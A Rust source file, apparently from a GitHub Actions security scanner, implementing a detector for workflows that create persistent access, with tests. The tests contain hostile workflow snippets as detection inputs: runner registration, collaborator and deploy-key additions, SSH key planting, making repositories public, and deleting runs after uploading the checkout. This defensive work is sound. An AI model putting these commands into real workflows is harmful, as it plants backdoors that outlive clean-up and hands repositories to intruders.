//! A workflow that gives somebody a way back in: a runner, another workflow, a key, or a command line for strangers.
//!
//! With a token that may do so, a workflow can register a machine of the thief's as a self-hosted runner (as Shai-Hulud
//! did), commit further workflows, add a deploy key or a collaborator, or make a repository public. On a machine of the owner's own,
//! a job that does nothing but paste the text of a discussion or an issue into its script is a command line for everybody. None of
//! these carries a secret away by itself; all of them outlive the clean-up of what brought them.
//!
//! ```yaml
//! - run: gh api -X POST repos/$GITHUB_REPOSITORY/actions/runners/registration-token
//! ```

use crate::flow::trace::ObservationKind;
use crate::signal::Signal;
use crate::technique::{Evidence, Sighting, Technique};

/// See the module's documentation.
pub(super) struct Backdoor;

impl Technique for Backdoor {
    fn id(&self) -> &'static str {
        "backdoor"
    }
    fn headline(&self) -> &'static str {
        "the workflow makes itself a way back in"
    }
    fn remedy(&self) -> &'static str {
        "look for runners and workflows that nobody knows, take them out, and invalidate the token it used"
    }
    fn source(&self) -> &'static str {
        include_str!("backdoor.rs")
    }

    fn look(&self, evidence: &Evidence<'_>) -> Vec<Sighting> {
        let single_purpose = |job: usize| evidence.trace.other_work.get(job).is_some_and(|count| *count <= 1);
        let mut found = Vec::new();
        for (at, observation) in evidence.trace.observations.iter().enumerate() {
            let mut signals = std::collections::BTreeSet::new();
            let alone = single_purpose(observation.job) && !evidence.workflow.is_action;
            match observation.kind {
                ObservationKind::RegistersRunner => signals.insert(Signal::RegistersRunner),
                ObservationKind::StartsRunner => signals.insert(Signal::StartsRunner),
                ObservationKind::WritesWorkflow => {
                    if by_interface(&observation.detail.template()) && !checks_out(evidence, observation.job)
                    {
                        signals.insert(Signal::WritesUnseen);
                    }
                    signals.insert(Signal::WritesWorkflow)
                }
                ObservationKind::UploadsAndDeletes if !evidence.workflow.is_action => {
                    signals.insert(Signal::UploadsAndDeletes)
                }
                ObservationKind::GrantsAccess => signals.insert(Signal::GrantsAccess),
                ObservationKind::UntrustedInScript if alone && on_own_machine(evidence, observation.job) => {
                    signals.insert(Signal::OutsidersCommands)
                }
                _ => continue,
            };
            if alone {
                signals.insert(Signal::SinglePurpose);
            }
            found.push(Sighting { observations: vec![at], signals, ..Sighting::default() });
        }
        found.sort_by_key(|sighting| std::cmp::Reverse(crate::verdict::weigh(self.id(), &sighting.signals)));
        found.truncate(1);
        found
    }
}

/// Whether a file is written by a call of the forge, so that no working copy and no commit of the owner's is needed.
fn by_interface(detail: &str) -> bool {
    detail.contains("/contents/.github/workflows")
}

fn checks_out(evidence: &Evidence<'_>, job: usize) -> bool {
    let steps = evidence.workflow.jobs.get(job).map(|job| job.steps.as_slice()).unwrap_or_default();
    steps.iter().any(|step| {
        let uses = step.uses.as_ref().and_then(|uses| uses.text()).unwrap_or("");
        uses.to_ascii_lowercase().starts_with("actions/checkout")
    })
}

/// Whether a job runs on a self-hosted runner, started by what outsiders do, in a workflow that has no other job.
fn on_own_machine(evidence: &Evidence<'_>, job: usize) -> bool {
    let jobs = &evidence.workflow.jobs;
    let own = jobs.get(job).is_some_and(crate::workflow::Job::is_self_hosted);
    own && jobs.len() == 1
        && evidence
            .workflow
            .triggers
            .iter()
            .any(|trigger| crate::flow::doors::OUTSIDERS.contains(&trigger.event.as_str()))
}

#[cfg(test)]
mod tests {
    use crate::report::Verdict;
    use crate::testing::{check, silent};

    #[test]
    fn a_runner_is_registered() {
        check(
            "backdoor",
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: gh api -X POST repos/me/it/actions/runners/registration-token\n        env: {GH_TOKEN: '${{ secrets.PAT }}'}\n",
            Verdict::Malicious,
            &[],
            &[],
        );
    }

    /// The method decides: without a body, `-X PUT` is all that tells the call from a question.
    #[test]
    fn a_collaborator_by_curl() {
        let text = |option: &str| {
            format!(
                "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: 'curl {option} -H \"Authorization: token ${{{{ secrets.PAT }}}}\" https://api.github.com/repos/me/it/collaborators/someone'\n"
            )
        };
        for option in ["-X PUT", "-XPUT", "--request PUT"] {
            check("backdoor", &text(option), Verdict::Malicious, &[], &[]);
        }
        silent(&text(""));
    }

    #[test]
    fn a_command_line_for_strangers() {
        check(
            "backdoor",
            "on: discussion\njobs:\n  a:\n    runs-on: self-hosted\n    steps:\n      - run: echo ${{ github.event.discussion.body }}\n",
            Verdict::Malicious,
            &[],
            &[],
        );
    }

    #[test]
    fn the_machine_becomes_a_runner() {
        check(
            "backdoor",
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n      - run: ./config.sh --url https://github.com/someone/else --token placeholder --unattended\n",
            Verdict::Malicious,
            &[],
            &[],
        );
    }

    #[test]
    fn a_key_to_a_machine_of_the_owners_own() {
        let text = |runs_on: &str, key: &str| {
            format!(
                "on: push\njobs:\n  a:\n    runs-on: {runs_on}\n    steps:\n      - run: echo '{key}' >> ~/.ssh/authorized_keys\n"
            )
        };
        let key = "ssh-ed25519 AAAAplaceholder someone";
        check("backdoor", &text("self-hosted", key), Verdict::Malicious, &[], &[]);
        // Near miss: a machine that is gone after the job, and a key that the owner chose.
        silent(&text("ubuntu-latest", key));
        silent(&text("self-hosted", "${{ vars.PUBLIC_KEY }}"));
    }

    #[test]
    fn keys_and_collaborators() {
        for call in [
            "gh api -X PUT repos/$GITHUB_REPOSITORY/collaborators/someone",
            "gh api repos/$GITHUB_REPOSITORY/keys -f title=x -f key=\"ssh-ed25519 AAAA\"",
            "gh repo deploy-key add key.pub --allow-write",
            "gh repo edit --visibility public",
            "curl -X PATCH -H \"Authorization: token $GH_TOKEN\" https://api.github.com/repos/me/it -d '{\"private\": false}'",
        ] {
            check(
                "backdoor",
                &format!(
                    "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          {call}\n        env: {{GH_TOKEN: '${{{{ secrets.PAT }}}}'}}\n"
                ),
                Verdict::Malicious,
                &[],
                &[],
            );
        }
    }

    fn steps(steps: &str) -> String {
        format!("on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n{steps}")
    }

    #[test]
    fn a_workflow_written_by_a_call() {
        let put = "      - run: gh api -X PUT repos/me/it/contents/.github/workflows/x.yml -f message=x -f content=eA==\n        env: {GH_TOKEN: '${{ secrets.PAT }}'}\n";
        check("backdoor", &steps(put), Verdict::Malicious, &[], &[]);
        // Near miss: from a working copy, as those who keep many repositories in step do.
        let copied = format!("      - uses: actions/checkout@v4\n{put}");
        check("backdoor", &steps(&copied), Verdict::Suspicious, &[], &[]);
        silent(&steps(
            "      - run: gh api repos/me/it/contents/.github/workflows/x.yml\n        env: {GH_TOKEN: '${{ secrets.PAT }}'}\n",
        ));
    }

    #[test]
    fn what_uploads_and_takes_itself_away() {
        let upload = "      - run: tar czf s.tgz .\n      - uses: actions/upload-artifact@v4\n        with: {name: s, path: s.tgz}\n";
        for delete in [
            "gh run delete $GITHUB_RUN_ID",
            "gh api -X DELETE repos/me/it/actions/runs/${{ github.run_id }}",
            "git push origin --delete \"$GITHUB_REF_NAME\"",
            "git push origin \":${{ github.ref_name }}\"",
            "git rm .github/workflows/test.yml && git commit -m x && git push",
        ] {
            check(
                "backdoor",
                &steps(&format!("{upload}      - run: |\n          {delete}\n")),
                Verdict::Malicious,
                &[],
                &[],
            );
        }
        // Near miss: other runs and branches are tidied up, or nothing was uploaded.
        for delete in
            ["gh run delete 17", "git push origin --delete old-branch", "git rm docs/a.md && git push"]
        {
            silent(&steps(&format!("{upload}      - run: |\n          {delete}\n")));
        }
        silent(&steps("      - run: make\n      - run: gh run delete $GITHUB_RUN_ID\n"));
    }

    #[test]
    fn a_way_in_by_a_script() {
        let script = |call: &str| {
            steps(&format!(
                "      - uses: actions/github-script@v7\n        with:\n          github-token: ${{{{ secrets.PAT }}}}\n          script: |\n            {call}\n"
            ))
        };
        for call in [
            "await github.rest.repos.addCollaborator({...context.repo, username: 'someone'})",
            "await github.rest.repos.createDeployKey({...context.repo, key: 'x', read_only: false})",
            "await github.rest.repos.update({...context.repo, private: false})",
            "await github.rest.repos.createOrUpdateFileContents({...context.repo, path: '.github/workflows/x.yml', content: 'eA=='})",
        ] {
            check("backdoor", &script(call), Verdict::Malicious, &[], &[]);
        }
        for call in [
            "// await github.rest.repos.addCollaborator({})",
            "await github.rest.repos.update({...context.repo, homepage: 'https://widgets.example'})",
            "await github.rest.repos.createOrUpdateFileContents({...context.repo, path: 'data.json', content: 'eA=='})",
        ] {
            silent(&script(call));
        }
    }

    /// Near miss: a stranger's text in a workflow that does other work too is a door, and a title on a hosted machine as well.
    #[test]
    fn text_on_a_hosted_machine_is_a_door_only() {
        check(
            "script-injection",
            "on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ${{ github.event.issue.title }}\n",
            Verdict::Exposed,
            &[],
            &[],
        );
    }

    #[test]
    fn other_calls_are_none() {
        silent(
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: gh api repos/me/it/actions/runs\n        env: {GH_TOKEN: '${{ github.token }}'}\n",
        );
    }
}
